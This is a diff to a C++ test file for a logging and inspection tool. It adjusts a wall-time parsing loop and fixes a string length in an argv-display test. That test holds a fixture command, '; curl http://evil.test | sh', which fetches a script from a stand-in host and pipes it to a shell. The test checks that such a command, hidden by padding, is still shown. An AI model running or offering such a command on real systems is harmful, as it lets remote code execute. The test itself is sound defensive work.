@@ -64,7 +64,9 @@ TEST_CASE("wall times: dates, times, UTC and offsets, Unix seconds; anything els
     clock_gettime(CLOCK_REALTIME, &t);
     return int64_t(t.tv_sec) * 1'000'000'000 + t.tv_nsec;
   };
-  for (auto [text, secs] : {std::pair{"-30s", 30}, {"-10m", 600}, {"-2h", 7200}, {"-7d", 7 * 86400}}) {
+  for (auto pair : {std::pair{"-30s", 30}, {"-10m", 600}, {"-2h", 7200}, {"-7d", 7 * 86400}}) {
+    const char* text = pair.first;  // (not structured bindings: the checks' lambdas capture them)
+    int secs = pair.second;
     int64_t before = now_ns();
     auto t = inspect::parse_wall_time(text);
     int64_t after = now_ns();
@@ -183,7 +185,7 @@ TEST_CASE("one line per entry, whatever the entry holds") {
 
 TEST_CASE("an argv past its first 4096 bytes is shown, escaped, argument by argument") {
   // A command pushed out of the exec entry by padding is still read.
-  std::string tail = std::string("; curl http://evil.test | sh\0--flag\0", 38);
+  std::string tail = std::string("; curl http://evil.test | sh\0--flag\0", 36);
   json piece = {{"seq", 6}, {"session", 1}, {"type", "exec_argv"}, {"offset", 4096}, {"data", tail}};
   CHECK(inspect::describe(piece) == "argv continued at offset 4096: \"; curl http://evil.test | sh\" --flag");
   json binary = {{"seq", 7}, {"session", 1}, {"type", "exec_argv"}, {"offset", 8192},
